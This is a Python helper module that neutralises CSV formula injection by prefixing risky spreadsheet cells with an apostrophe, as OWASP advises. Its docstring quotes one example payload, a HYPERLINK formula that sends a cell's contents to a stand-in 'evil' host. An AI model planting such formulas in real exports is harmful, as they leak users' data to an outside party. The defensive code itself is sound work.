"""CSV cells that a spreadsheet shows as text, never runs as a formula.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-`
or `@` (and strip a leading tab or carriage return first), so a video file name or a
class name such as `=HYPERLINK("http://evil/?"&A1)` would run in the editor's
spreadsheet. Such cells get a leading apostrophe (OWASP's CSV injection advice).
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value`, with a `'` in front when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    return {key: safe_cell(value) for key, value in row.items()}


def safe_cells(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]
